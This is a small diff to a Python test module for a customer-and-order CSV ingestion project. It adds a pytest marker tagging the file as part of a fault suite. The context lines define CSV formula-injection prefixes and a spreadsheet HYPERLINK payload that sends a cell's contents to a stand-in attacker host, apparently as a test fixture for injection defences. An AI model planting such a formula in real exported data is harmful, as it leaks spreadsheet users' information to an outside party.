@@ -8,6 +8,7 @@ import re
 from datetime import datetime
 from pathlib import Path
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from sqlalchemy import Engine, select
@@ -21,6 +22,8 @@ from clv.ingest import import_customers, import_orders
 from clv.settings import Settings
 from clv.store.tables import customers_table, orders_table
 from tests.helpers import ORDER_HEADER, write_csv
+
+pytestmark = pytest.mark.faults  # issue 11's fault suite
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
